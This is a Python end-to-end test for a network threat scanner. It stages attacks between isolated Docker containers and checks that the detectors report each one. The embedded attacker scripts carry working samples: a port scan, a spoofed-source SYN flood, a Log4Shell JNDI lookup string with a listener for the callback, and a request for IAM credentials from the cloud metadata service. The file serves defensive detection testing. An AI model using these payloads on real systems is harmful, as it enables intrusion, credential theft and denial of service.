#!/usr/bin/env python3
"""The detectors live: attacks between real containers on internal Docker networks, while a scan watches. The outside is
played by a network of 203.0.113.0/24 (RFC 5737); nothing leaves the machine. Run as root.
Usage: PLIMSOLL=build/release/plimsoll tests/e2e/network_detect_test.py"""
import json
import os
import pathlib
import signal
import subprocess
import tempfile
import time
import unittest

ROOT = pathlib.Path(__file__).resolve().parents[2]
PLIMSOLL = os.environ.get("PLIMSOLL", str(ROOT / "build/release/plimsoll"))
NAME = "plimsoll-detect-"
OUTSIDE = {"target": "203.0.113.210", "outsider": "203.0.113.211"}
INSIDE = {"target": "172.29.120.10", "app": "172.29.120.11"}
METADATA = "169.254.169.254"

# What the target serves: a Redis that asks nobody for a name, an application that logs with an old Log4j, and, for the
# test's own network, the cloud's metadata service.
SERVER = """
import http.server, re, socket, socketserver, threading
class Redis(socketserver.StreamRequestHandler):
    def handle(self):
        while line := self.rfile.readline():
            if line.startswith(b'GET'): self.wfile.write(b'$5\\r\\nvalue\\r\\n')
            elif line.startswith(b'PING'): self.wfile.write(b'+PONG\\r\\n')
class Web(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        asked = re.search(r'ldap://([0-9.]+):(\\d+)', self.headers.get('User-Agent', ''))
        if asked:
            try: socket.create_connection((asked[1], int(asked[2])), 2).close()
            except OSError: pass
        self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'{}')
    def log_message(self, *args): pass
class Threaded(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True
for address, handler in ((('', 6379), Redis), (('', 8080), Web), (('METADATA', 80), Web)):
    threading.Thread(target=Threaded(address, handler).serve_forever).start()
""".replace("METADATA", METADATA)

OUTSIDER = """
import socket, struct, time, random
TARGET = '203.0.113.210'
def say(port, text):
    with socket.create_connection((TARGET, port), 3) as s:
        s.sendall(text); return s.recv(200)
def flood(seconds):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for _ in range(20):
            source = struct.pack('>I', 0xC6120000 + random.randrange(1 << 16))
            tcp = struct.pack('>HHIIBBHHH', random.randrange(1024, 65535), 8080, random.randrange(1 << 32), 0, 0x50, 2, 1024, 0, 0)
            ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, source, socket.inet_aton(TARGET))
            raw.sendto(ip + tcp, (TARGET, 0))
        time.sleep(0.02)
listener = socket.create_server(('203.0.113.211', 1389))
for turn in range(2):
    for port in range(1, 31):
        with socket.socket() as s: s.settimeout(1); s.connect_ex((TARGET, port))
    say(6379, b'PING\\r\\nGET key\\r\\n')
    say(8080, b'GET / HTTP/1.1\\r\\nHost: x\\r\\nUser-Agent: ${${lower:J}ndi:ldap://203.0.113.211:1389/a}\\r\\n\\r\\n')
    time.sleep(0.5)
flood(9)
"""

APP = """
import socket, time
for turn in range(4):
    with socket.create_connection(('METADATA', 80), 3) as s:
        s.sendall(b'GET /latest/meta-data/iam/security-credentials/role HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); s.recv(500)
    with socket.create_connection(('172.29.120.10', 6379), 3) as s:
        s.sendall(b'GET key\\r\\n'); s.recv(100)
    time.sleep(1)
""".replace("METADATA", METADATA)


def run(*command, check=(0,), timeout=120):
    done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=timeout)
    if done.returncode not in check:
        raise AssertionError(f"{command}: exit {done.returncode}\n{done.stdout[-1500:]}\n{done.stderr[-1500:]}")
    return done.stdout


def pid_of(name):
    return run("docker", "inspect", "-f", "{{.State.Pid}}", NAME + name).strip()


def join_cgroups(pid):
    """Puts this process into the control groups of another, as `docker exec` would."""
    for line in pathlib.Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        place = pathlib.Path("/sys/fs/cgroup") / controllers.removeprefix("name=") / path.lstrip("/") / "cgroup.procs"
        try:
            place.write_text(str(os.getpid()))
        except OSError:
            pass  # a hierarchy that is not mounted here


def inside(name, *command):
    """A process of the host's tools in a container's network namespace and control groups."""
    pid = pid_of(name)
    return subprocess.Popen(["nsenter", "-t", pid, "-n", *command], preexec_fn=lambda: join_cgroups(pid),
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)


class Scene:
    started = None
    processes = []

    @classmethod
    def up(cls):
        said = run(str(ROOT / "script" / "docker-up")).split()
        cls.started = int(said[0]) if said else None
        cls.down_containers()
        with tempfile.TemporaryDirectory() as root:
            (pathlib.Path(root) / "bin").mkdir()
            subprocess.run(["cp", "/bin/busybox", root + "/bin/busybox"], check=True)
            tar = subprocess.Popen(["tar", "-C", root, "-c", "."], stdout=subprocess.PIPE)
            subprocess.run(["docker", "import", "-", NAME + "image"], stdin=tar.stdout, stdout=subprocess.DEVNULL, check=True)
            tar.wait(60)
        run("docker", "network", "create", "--internal", "--subnet", "203.0.113.208/28", "--gateway", "203.0.113.222", NAME + "outside")
        run("docker", "network", "create", "--internal", "--subnet", "172.29.120.0/24", NAME + "inside")
        for name in ("target", "outsider", "app"):
            networks = [(NAME + "outside", OUTSIDE), (NAME + "inside", INSIDE)]
            first, *rest = [(network, addresses[name]) for network, addresses in networks if name in addresses]
            run("docker", "run", "-d", "--name", NAME + name, "--network", first[0], "--ip", first[1], NAME + "image", "/bin/busybox", "sleep", "600")
            for network, address in rest:
                run("docker", "network", "connect", "--ip", address, network, NAME + name)
        # Docker's own networks carry no foreign address: the metadata service stands on a cable of its own.
        for name, command in (("app", ["link", "add", "meta0", "type", "veth", "peer", "name", "meta1", "netns", pid_of("target")]),
                              ("app", ["addr", "add", "169.254.1.1/16", "dev", "meta0"]), ("app", ["link", "set", "meta0", "up"]),
                              ("target", ["addr", "add", METADATA + "/16", "dev", "meta1"]), ("target", ["link", "set", "meta1", "up"])):
            process = inside(name, "ip", *command)
            said, _ = process.communicate(timeout=30)
            if process.returncode != 0:
                raise AssertionError(f"{command}: {said}")
        cls.processes.append(inside("target", "python3", "-c", SERVER))
        time.sleep(1)

    @classmethod
    def watch(cls):
        """The report of a scan during which everything happens."""
        with tempfile.NamedTemporaryFile(suffix=".json") as out:
            scan = subprocess.Popen([PLIMSOLL, "scan", "-q", "--format", "json", "-o", out.name, "--observe", "22s"],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
            time.sleep(6)  # until it watches
            attacks = [inside("outsider", "python3", "-c", OUTSIDER), inside("app", "python3", "-c", APP)]
            for attack in attacks:
                said, _ = attack.communicate(timeout=90)
                if attack.returncode != 0:
                    raise AssertionError(said)
            if scan.wait(180) not in (0, 3):
                raise AssertionError(scan.stderr.read())
            return json.load(open(out.name))

    @classmethod
    def down_containers(cls):
        for name in ("target", "outsider", "app"):
            subprocess.run(["docker", "rm", "-f", NAME + name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for name in ("outside", "inside"):
            subprocess.run(["docker", "network", "rm", NAME + name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    @classmethod
    def down(cls):
        for process in cls.processes:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(10)
        cls.down_containers()
        if cls.started:
            os.kill(cls.started, signal.SIGTERM)


class Live(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.addClassCleanup(Scene.down)
        Scene.up()
        cls.report = Scene.watch()

    def threat(self, name, detector):
        asset = next(a for a in self.report["assets"] if a["name"] == NAME + name)
        found = [t for t in asset["threats"] if t["id"] == detector]
        said = [(e["detector"], e["source"]["address"], e["target"]["address"], e["severity"], e["outcome"], e["count"])
                for e in self.report["network"]["events"]]
        self.assertEqual(len(found), 1, (said, self.report["network"]["sources"]))
        return found[0]

    def test_port_scan(self):
        self.assertIn("closed or unanswered ports", self.threat("target", "net.scan.ports")["evidence"])

    def test_syn_flood(self):
        self.assertIn("connections begun a second", self.threat("target", "net.tcp.syn-flood")["evidence"])

    def test_log4shell_is_confirmed_by_the_call_back(self):
        threat = self.threat("target", "net.http.log4shell")
        self.assertEqual(threat["severity"]["level"], "critical")
        self.assertIn("confirmed", threat["evidence"])

    def test_redis_for_the_outside(self):
        threat = self.threat("target", "net.expose.redis")
        self.assertIn(NAME + "outsider", threat["evidence"])  # and not the application inside, which may ask

    def test_metadata_service(self):
        threat = self.threat("app", "net.cloud.metadata")
        self.assertEqual(threat["severity"]["level"], "critical")

    def test_each_is_told_once_and_counts_in_the_score(self):
        target = next(a for a in self.report["assets"] if a["name"] == NAME + "target")
        self.assertIn("behaves abnormally on the network", [x["name"] for x in target["additions"]])
        keys = [(e["detector"], e["source"]["address"], e["target"]["address"], e["target"]["port"]) for e in self.report["network"]["events"]]
        self.assertEqual(len(keys), len(set(keys)), keys)


if __name__ == "__main__":
    unittest.main(verbosity=2)
